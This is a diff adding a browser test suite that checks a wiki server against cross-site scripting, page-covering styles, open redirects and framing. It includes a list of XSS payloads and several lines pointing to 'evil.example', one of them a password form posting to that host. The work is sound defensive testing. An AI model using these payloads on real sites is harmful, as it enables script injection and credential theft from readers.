@@ -1,0 +1,165 @@
+/**
+ * Somebody who may write, or only link, tries to run a script in the readers' name: by titles, comments, names of users and files,
+ * words to search, sources that are compared, sidebars, styles. Every page that shows one is opened, and nothing may become
+ * active: no dialog, no handler, no script of theirs, no address that runs.
+ */
+
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { launch, NO_BROWSER, visit } from '../support/browser.ts';
+import { type Server, startServer } from '../support/server.ts';
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[javascript:alert(1) x] [[javascript:alert(1)|x]]',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</table>',
+  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
+  '<p style="color:red}</style><script>alert(1)</script>">x</p>',
+  '<p style="}body{display:none}">x</p>',
+  '<p style="position:fixed;inset:0;z-index:99999;background:white">cover</p>',
+  '<span id="ui-search" class="ui-header">x</span>',
+  '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '{{DISPLAYTITLE:<script>alert(1)</script>}}',
+  '{{SHORTDESC:"><script>alert(1)</script>}}',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '== <script>alert(1)</script> ==\n== <img src=x onerror=alert(1)> ==\n== c ==',
+  '[[File:x"onerror="alert(1).png|alt="><script>alert(1)</script>]]',
+  '[[Category:"><script>alert(1)</script>]]',
+];
+const NAME = 'Eve "onmouseover=alert(1) x=\'';
+
+/** What is active in a document that should hold nothing active of others. */
+const ACTIVE = `(() => {
+  const found = [];
+  for (const each of document.querySelectorAll('*')) {
+    for (const { name, value } of each.attributes) {
+      if (/^on/i.test(name)) found.push(each.tagName + ' ' + name);
+      if (/^(?:href|src|action|formaction|xlink:href|background)$/i.test(name) && /^\\s*(?:javascript|data|vbscript):/i.test(value)) found.push(each.tagName + ' ' + value);
+      if (name === 'style') found.push(each.tagName + ' style');
+    }
+    if (/^(?:IFRAME|OBJECT|EMBED|BASE|FRAME)$/.test(each.tagName)) found.push(each.tagName);
+    if (each.tagName === 'SCRIPT' && !/^\\/assets\\/page-\\w+\\.js$/.test(each.getAttribute('src') || '')) found.push('SCRIPT');
+    if (each.tagName === 'META' && each.httpEquiv) found.push('META ' + each.httpEquiv);
+    if (each.tagName === 'FORM' && new URL(each.getAttribute('action'), location.href).origin !== location.origin) found.push('FORM ' + each.getAttribute('action'));
+  }
+  if (document.querySelectorAll('#ui-search').length !== 1) found.push('two fields of search');
+  const field = document.getElementById('ui-search').getBoundingClientRect();
+  const top = document.elementFromPoint(field.x + field.width / 2, field.y + field.height / 2);
+  if (!top || top.id !== 'ui-search') found.push('the search is covered');
+  if (getComputedStyle(document.body).display === 'none') found.push('hidden');
+  return found;
+})()`;
+
+describe.skipIf(NO_BROWSER !== undefined)(
+  `attacks on readers${NO_BROWSER === undefined ? '' : `: ${NO_BROWSER}`}`,
+  () => {
+    let browser: Browser;
+    let server: Server;
+    const ids: number[] = [];
+
+    beforeAll(async () => {
+      server = await startServer();
+      browser = await launch();
+      const editor = await server.editor(NAME.slice(0, 60), 'eve@example.org');
+      for (const [place, source] of ATTACKS.entries()) {
+        const made = await editor.post<{ latest: { id: number } }>('/page', {
+          title: `Attack ${place}`,
+          source,
+          comment: source.slice(0, 400),
+        });
+        expect(made.status, made.text).toBe(201);
+        ids.push(made.body.latest.id);
+      }
+      const all = ATTACKS.join('\n\n');
+      await editor.post('/page', {
+        title: 'MediaWiki:Sidebar',
+        source: `* x\n${ATTACKS.map((each) => `** ${each}|${each}`).join('\n')}`,
+        comment: 'c',
+      });
+      await editor.post('/page', { title: 'All', source: all, comment: all.slice(0, 400) });
+      const { body } = await editor.get<{ latest: { id: number } }>('/page/All');
+      await editor.put('/page/All', {
+        source: `${all.replaceAll('alert(1)', 'alert(2)')}`,
+        comment: 'c',
+        latest: { id: body.latest.id },
+      });
+    });
+    afterAll(() => browser?.close());
+
+    async function open(paths: readonly string[]): Promise<void> {
+      const { page, context, dialogs, complaints } = await visit(browser);
+      for (const path of paths) {
+        await page.goto(server.origin + path);
+        expect(await page.evaluate(ACTIVE), path).toEqual([]);
+        expect(new URL(page.url()).origin).toBe(server.origin);
+      }
+      expect(dialogs).toEqual([]);
+      expect(complaints.filter((each) => !/status of 40\d/.test(each))).toEqual([]);
+      await context.close();
+    }
+
+    test('in sources and comments', () => open(ATTACKS.flatMap((_, place) => [`/wiki/Attack_${place}`])));
+
+    test('in what is compared, listed, and told of authors', () =>
+      open([
+        '/wiki/All',
+        '/wiki/All?action=history',
+        '/wiki/All?action=blame',
+        '/wiki/All?action=info',
+        '/wiki/All?diff=cur&oldid=prev',
+        `/wiki/All?diff=prev&oldid=${(ids.at(-1) as number) + 3}`,
+        '/wiki/Special:RecentChanges',
+        '/wiki/Special:NewPages',
+        `/wiki/Special:Contributions/${encodeURIComponent(NAME)}`,
+        '/wiki/MediaWiki:Sidebar',
+      ]));
+
+    test('in words to search, titles and parameters of addresses', () =>
+      open(
+        ATTACKS.flatMap((attack) => {
+          const written = encodeURIComponent(attack.slice(0, 200));
+          return [
+            `/wiki/Special:Search?search=${written}`,
+            `/wiki/All?marked=${written}`,
+            `/wiki/${written}`,
+            `/wiki/Special:Contributions?user=${written}`,
+            `/wiki/Special:AllPages?from=${written}&folder=${written}`,
+            `/wiki/Special:UserLogin?returnto=${written}`,
+          ];
+        }),
+      ));
+
+    test('by framing a page', async () => {
+      const { headers } = await fetch(`${server.origin}/wiki/Main_Page`);
+      expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
+      expect(headers.get('content-security-policy')).not.toContain('unsafe');
+    });
+
+    test('by an address that leads elsewhere after the log-in', async () => {
+      for (const target of [
+        '//evil.example',
+        'https://evil.example',
+        '/\\evil.example',
+        'javascript:alert(1)',
+      ]) {
+        const shown = await fetch(
+          `${server.origin}/wiki/Special:UserLogin?returnto=${encodeURIComponent(target)}`,
+        );
+        expect(await shown.text()).toContain('name="returnto" value="/"');
+      }
+    });
+  },
+);
